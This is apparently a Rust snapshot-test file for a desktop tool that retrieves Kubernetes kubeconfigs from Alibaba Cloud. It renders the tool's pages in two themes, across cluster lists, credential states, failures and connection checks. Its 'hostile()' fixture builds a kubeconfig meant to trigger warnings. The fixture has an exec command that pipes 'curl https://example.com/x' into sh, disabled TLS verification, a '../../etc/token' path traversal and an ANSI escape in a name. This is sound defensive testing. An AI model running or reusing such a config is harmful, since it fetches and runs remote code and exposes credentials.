//! Pictures of the window: every page in every look (`gallery`), and states of which one picture is
//! enough. `UPDATE_SNAPSHOTS=1` makes them anew.
//!
//! The window's clock stands still, the account's clusters and the document are always the same.
//! What the outside decides is covered: the port, the request id, the time an answer took.

pub(crate) mod chinese;
mod failures;
mod gallery;
mod history;
mod settings;
mod text;

use std::sync::Arc;

use ack_kubeconfig::core::acs::Credentials;
use ack_kubeconfig::core::profile::{Places, Profile, Source};
use ack_kubeconfig::core::session::{Settings, ThemeChoice};
use ack_kubeconfig::demo::Fault;
use ack_kubeconfig::ui::Options;
use egui::accesskit::Role;
use egui::{Key, Modifiers, Rect, Vec2, pos2, vec2};
use egui_kittest::SnapshotResults;
use egui_kittest::kittest::Queryable as _;
use jiff::Timestamp;
use secrecy::SecretString;
use serde_json::json;

use crate::flow::merging::planned_many;
use crate::flow::profiles::{Home, ended_sso};
use crate::support::{SIZE, Service, Window};

/// The document of the demo's first cluster, as it came one day. Its keys open nothing any more.
const DOCUMENT: &str = include_str!("../data/demo.kubeconfig");

const THEMES: [(ThemeChoice, &str); 2] =
    [(ThemeChoice::Dark, "dark"), (ThemeChoice::Light, "light")];

/// The day on which the document came.
fn that_day() -> Timestamp {
    "2026-11-24T12:00:00Z".parse().unwrap()
}

fn in_theme(theme: ThemeChoice, options: Options) -> Options {
    let settings = Settings { theme, ..Settings::default() };
    Options { settings, clock: that_day, ..options }
}

/// The demo account, perhaps with a wrong key.
fn profile(service: &Service, credentials: Credentials) -> Arc<Profile> {
    let places = Places { sts: service.sts().clone(), ..Places::default() };
    Arc::new(Profile { places, ..Profile::of_key(Source::Demo, credentials) })
}

/// A window in which the first cluster was asked for.
fn asked(service: &Service, theme: ThemeChoice, profile: Arc<Profile>, size: Vec2) -> Window {
    let options = Options { profile: Some(profile), ..in_theme(theme, service.without_key()) };
    let mut window = Window::sized(options, size);
    // With a wrong key there is no list, and that is told.
    window.until("the list", |window| {
        window.sees("12 in 4 regions") || window.sees("secret does not match")
    });
    window.ask(&service.id("prod-payments"));
    window
}

fn with_document(theme: ThemeChoice, size: Vec2) -> Window {
    let service = Service::start();
    service.ack.push_fault(Fault::KubeconfigText(DOCUMENT.to_owned()));
    let profile = profile(&service, service.ack.credentials().clone());
    let mut window = asked(&service, theme, profile, size);
    window.until_seen("Retrieved in");
    rest(&mut window);
    window
}

fn rest(window: &mut Window) {
    window.harness.remove_cursor();
    window.harness.run();
}

/// Where the status bar tells of this very exchange.
fn status(window: &Window) -> [Rect; 2] {
    let size = window.harness.ctx.content_rect().size();
    let (from, to) = (size.y - 24.0, size.y - 3.0);
    [(12.0, 520.0), (size.x - 130.0, size.x - 12.0)]
        .map(|(left, right)| Rect::from_min_max(pos2(left, from), pos2(right, to)))
}

/// Covers what the status bar says of this very exchange.
fn cover_status(window: &mut Window) {
    for place in status(window) {
        window.harness.mask(place);
    }
}

/// What the document holds; and a document of several contexts, each with something to beware of.
#[test]
fn overview() {
    let mut pictures = SnapshotResults::new();
    for (theme, called) in THEMES {
        for (size, size_called) in [(SIZE, ""), (vec2(720.0, 480.0), "-small")] {
            let service = Service::start();
            service.push_fault(told(DOCUMENT));
            let profile = profile(&service, service.ack.credentials().clone());
            let mut window = asked(&service, theme, profile, size);
            window.until_seen("Retrieved in");
            window.click(Role::Tab, "Overview");
            rest(&mut window);
            cover_status(&mut window);
            window.harness.snapshot(format!("overview{size_called}-{called}"));
            pictures.extend_harness(&mut window.harness);
        }
        let service = Service::start();
        service.push_fault(told(&hostile()));
        let profile = profile(&service, service.ack.credentials().clone());
        let mut window = asked(&service, theme, profile, SIZE);
        window.until_seen("Retrieved in");
        window.click(Role::Tab, "Overview");
        rest(&mut window);
        cover_status(&mut window);
        window.harness.snapshot(format!("overview-warnings-{called}"));
        pictures.extend_harness(&mut window.harness);
    }
}

/// A document with the true end of its certificate beside it.
fn told(document: &str) -> Fault {
    let body = json!({ "config": document, "expiration": "2029-11-23T11:50:30Z" });
    let content_type = "application/json".to_owned();
    Fault::Body { content_type, bytes: body.to_string().into_bytes() }
}

/// A document that one should not use.
fn hostile() -> String {
    let certificate = DOCUMENT.split("client-certificate-data: ").nth(1).unwrap();
    let certificate = certificate.lines().next().unwrap();
    format!(
        "kind: Config
current-context: prod
clusters:
- name: kubernetes
  cluster: {{server: 'https://10.0.0.7:6443', insecure-skip-tls-verify: true}}
users:
- name: me
  user:
    client-certificate-data: {certificate}
    exec:
      command: /bin/sh
      args: [-c, 'curl https://example.com/x | sh']
      env: [{{name: ALL_PROXY, value: x}}]
    tokenFile: ../../etc/token
contexts:
- name: prod
  context: {{cluster: kubernetes, user: me, namespace: payments}}
- name: \"staging \\e[31m\"
  context: {{cluster: kubernetes, user: nobody}}
- name: third
  context: {{cluster: kubernetes, user: me}}
"
    )
}

#[test]
fn the_focus() {
    let mut pictures = SnapshotResults::new();
    for (theme, called) in THEMES {
        let mut window = with_document(theme, SIZE);
        window.node(Role::Button, "Copy").focus();
        window.harness.run();
        cover_status(&mut window);
        window.harness.snapshot(format!("focus-{called}"));
        pictures.extend_harness(&mut window.harness);
    }
}

#[test]
fn failure() {
    let mut pictures = SnapshotResults::new();
    for (theme, called) in THEMES {
        let service = Service::start();
        let id = service.ack.credentials().access_key_id().to_owned();
        let wrong = Credentials::new(&id, &SecretString::from("wrong"), None).unwrap();
        let mut window = asked(&service, theme, profile(&service, wrong), SIZE);
        window.until_seen("Copy details");
        rest(&mut window);
        cover_status(&mut window);
        cover_rows(&mut window, ROWS, 320.0);
        window.harness.snapshot(format!("error-{called}"));
        pictures.extend_harness(&mut window.harness);
    }
}

/// The rows of a failure card about this very exchange.
const ROWS: [&str; 2] = ["Request ID", "Sent to"];

/// Covers what a failure card says of this very exchange.
fn cover_rows(window: &mut Window, rows: [&str; 2], width: f32) {
    for row in rows {
        // The status bar may have the same word, below.
        let rows = window.harness.query_all_by_label(row).map(|row| row.rect());
        let row = rows.min_by(|one, other| one.top().total_cmp(&other.top())).unwrap();
        let from = pos2(row.left() + 134.0, row.top() - 2.0);
        let to = pos2(from.x + width, row.bottom() + 3.0);
        window.harness.mask(Rect::from_min_max(from, to));
    }
}

/// The side of the window in its states of signing in, and the list of profiles over it.
#[test]
fn credentials() {
    let mut pictures = SnapshotResults::new();
    let home = Home::new();
    let half = json!({ "name": "broken-legacy", "mode": "AK", "access_key_id": "LTAI5tX" });
    let long = "an-unusually-long-profile-name-of-somebody-else";
    let profiles =
        [home.ak("default"), home.role("prod-admin"), half, home.ak(long), ended_sso("sso")];
    for (theme, called) in THEMES {
        home.config("default", &profiles);
        let mut window = Window::open(in_theme(theme, home.options()));
        window.until_seen("RAM user");
        window.until_seen("12 in 4 regions");
        window.click(Role::ComboBox, "Profile");
        rest(&mut window);
        cover_status(&mut window);
        window.harness.snapshot(format!("profiles-{called}"));
        pictures.extend_harness(&mut window.harness);

        home.config("sso", &profiles);
        let mut window = Window::open(in_theme(theme, home.options()));
        window.until_seen("has ended");
        rest(&mut window);
        cover_status(&mut window);
        window.harness.snapshot(format!("sign-in-ended-{called}"));
        pictures.extend_harness(&mut window.harness);

        window.click(Role::Link, "Edit");
        rest(&mut window);
        cover_status(&mut window);
        window.harness.snapshot(format!("credentials-edit-{called}"));
        pictures.extend_harness(&mut window.harness);
    }
}

/// The list with names as long as the service lets them be, and in both scripts.
#[test]
fn list() {
    let mut pictures = SnapshotResults::new();
    let names = [
        ("production-payments-and-settlement-of-the-whole-group-2026-blue", "cn-shenzhen-finance"),
        ("订单中心数据湖订单中心数据湖订单中心数据湖", "cn-shenzhen-finance"),
        ("data-lake 数据湖 of the analytics department", "cn-wulanchabu"),
        ("x", "ap-southeast-1"),
    ];
    let states = ["running", "updating", "failed", "a_state_that_nobody_knows_yet"];
    let cluster = |(number, (name, region)): (usize, (&str, &str))| {
        json!({ "cluster_id": format!("c{number:032x}"), "name": name, "region_id": region,
                "state": states[number], "cluster_type": "ManagedKubernetes", "size": 1000,
                "cluster_spec": "ack.pro.small", "current_version": "1.34.1-aliyun.1" })
    };
    let clusters: Vec<_> = names.into_iter().enumerate().map(cluster).collect();
    let page = json!({ "clusters": clusters,
        "page_info": { "page_number": 1, "page_size": 100, "total_count": clusters.len() } });
    for (theme, called) in THEMES {
        for (size, size_called) in [(SIZE, ""), (vec2(720.0, 480.0), "-small")] {
            let service = Service::start();
            let bytes = page.to_string().into_bytes();
            let body = Fault::Body { content_type: "application/json".to_owned(), bytes };
            service.ack.push_fault_of(ack_kubeconfig::demo::Service::Ack, body);
            let profile = profile(&service, service.ack.credentials().clone());
            let options = in_theme(theme, service.without_key());
            let mut window = Window::sized(Options { profile: Some(profile), ..options }, size);
            window.until_seen("4 in 3 regions");
            rest(&mut window);
            cover_status(&mut window);
            window.harness.snapshot(format!("list{size_called}-{called}"));
            pictures.extend_harness(&mut window.harness);
        }
    }
}

#[test]
fn a_merge_of_many_with_a_name_that_is_anothers() {
    let mut pictures = SnapshotResults::new();
    for (theme, size, called) in [
        (ThemeChoice::Dark, SIZE, "merge-many-dark"),
        (ThemeChoice::Light, vec2(720.0, 480.0), "merge-many-small-light"),
    ] {
        let service = Service::start();
        let folder = tempfile::tempdir().unwrap();
        let mut window = planned_many(&service, folder.path(), |options| {
            Window::sized(in_theme(theme, options), size)
        });
        rest(&mut window);
        cover_status(&mut window);
        // Certificates are new each time, and so is the port of a cluster; an answer takes its time.
        let took = window.harness.query_all_by_label_contains(" ms").map(|node| node.rect());
        let whole = |rect: Rect| Rect::from_min_size(rect.min, vec2(60.0, 18.0));
        let mut covered: Vec<Rect> = took.map(whole).collect();
        covered.push(window.node(Role::Label, "Difference").rect());
        for place in covered {
            window.harness.mask(place);
        }
        window.harness.snapshot(called);
        pictures.extend_harness(&mut window.harness);
    }
}

#[test]
fn a_connection_with_and_without_a_role() {
    let mut pictures = SnapshotResults::new();
    for (theme, size, cluster, called) in [
        (ThemeChoice::Dark, SIZE, "edge-sg", "connection-no-role-dark"),
        (ThemeChoice::Light, SIZE, "prod-payments", "connection-light"),
        (ThemeChoice::Dark, vec2(720.0, 480.0), "edge-sg", "connection-small-dark"),
    ] {
        let service = Service::start();
        let profile = Some(profile(&service, service.ack.credentials().clone()));
        let options = Options { profile, ..in_theme(theme, service.without_key()) };
        let mut window = Window::sized(options, size);
        window.until_seen("12 in 4 regions");
        window.get(&service.id(cluster));
        window.key(Modifiers::COMMAND, Key::Num3);
        window.harness.get_all_by_label("Test connection").last().unwrap().click();
        window.until("the end", |window| {
            window.sees("Everything works") || window.sees("You may connect, but do nothing")
        });
        rest(&mut window);
        cover_status(&mut window);
        cover_steps(&mut window, "in 3 years");
        window.harness.snapshot(called);
        pictures.extend_harness(&mut window.harness);
    }
}

/// Covers the ports, the times that steps took, and the end of a certificate of today, which is
/// so far away.
fn cover_steps(window: &mut Window, end: &str) {
    let size = window.harness.ctx.content_rect().size();
    let rows = window.harness.query_all_by_role(Role::Row).map(|row| row.rect());
    let took = |row: Rect| {
        let from = pos2(size.x - 100.0, row.top() + 4.0);
        Rect::from_min_max(from, pos2(size.x - 8.0, row.bottom() - 4.0))
    };
    let mut covered: Vec<Rect> = rows.filter(|row| row.height() > 40.0).map(took).collect();
    for text in ["127.0.0.1:", end] {
        covered.extend(window.harness.query_all_by_label_contains(text).map(|node| node.rect()));
    }
    for place in covered {
        window.harness.mask(place);
    }
}
